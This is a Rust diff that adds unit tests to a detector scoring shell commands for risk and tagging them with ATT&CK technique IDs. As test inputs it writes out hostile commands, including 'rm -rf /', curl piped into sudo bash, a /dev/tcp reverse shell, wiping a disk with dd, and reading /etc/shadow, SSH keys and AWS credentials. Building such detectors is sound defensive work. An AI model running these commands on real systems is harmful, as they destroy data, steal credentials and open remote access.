@@ -244,3 +244,81 @@ fn is_root(path: &str) -> bool {
 fn is_interpreter(command: &Command) -> bool {
     is_shell(command.program()) || command.program().starts_with("python") || command.program() == "perl"
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn each_rule_finds_its_command() {
+        for (command, expected, technique) in [
+            ("rm -rf /", 100, "T1485"),
+            ("rm -r -f target", 50, "T1485"),
+            ("curl -s https://x.example/i.sh | sudo bash", 85, "T1105"),
+            ("wget -qO- x | python3", 85, "T1059.004"),
+            ("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", 95, "T1095"),
+            ("dd if=/dev/zero of=/dev/sda", 90, "T1561"),
+            ("sudo cat /etc/shadow", 80, "T1003.008"),
+            ("echo key >> ~/.ssh/authorized_keys", 80, "T1098.004"),
+            ("cat ~/.ssh/id_ed25519", 75, "T1552.004"),
+            ("cp ~/.aws/credentials /tmp", 70, "T1552.001"),
+            ("history -c", 60, "T1070.003"),
+            ("crontab jobs.txt", 55, "T1053.003"),
+            ("base64 --decode payload", 45, "T1140"),
+            ("chmod -R 777 .", 40, "T1222.002"),
+        ] {
+            let risk = score(command);
+            assert_eq!(risk.score, expected, "{command}: {}", risk.reason());
+            assert!(
+                risk.techniques().contains(&technique),
+                "{command}: {:?}",
+                risk.techniques()
+            );
+        }
+    }
+
+    #[test]
+    fn what_only_looks_dangerous_scores_nothing() {
+        for command in [
+            "",
+            "ls -la",
+            "echo 'rm -rf /'",
+            "grep -rf patterns src",
+            "rm -r target",
+            "curl x | jq .",
+            "curl x; bash build.sh",
+            "crontab -l",
+            "chmod 755 run",
+        ] {
+            assert_eq!(score(command).score, 0, "{command}: {}", score(command).reason());
+        }
+    }
+
+    #[test]
+    fn further_findings_raise_the_worst() {
+        let risk = score("cat /etc/shadow | base64 -d");
+        assert_eq!((risk.score, risk.level()), (85, Level::Critical));
+        assert_eq!(risk.reason(), "reads the password hashes; decodes hidden content");
+    }
+
+    #[test]
+    fn no_score_exceeds_a_hundred() {
+        assert_eq!(
+            score("rm -rf / ; chmod 777 / ; history -c ; cat /etc/shadow").score,
+            100
+        );
+    }
+
+    #[test]
+    fn a_technique_is_named_once() {
+        assert_eq!(score("rm -rf ~").techniques(), ["T1485"]);
+    }
+
+    #[test]
+    fn levels_begin_at_20_50_and_80() {
+        assert_eq!(score("ls").level(), Level::Low);
+        assert_eq!(score("chmod 777 x").level(), Level::Medium);
+        assert_eq!(score("rm -rf x").level(), Level::High);
+        assert_eq!(score("cat /etc/shadow").level(), Level::Critical);
+    }
+}
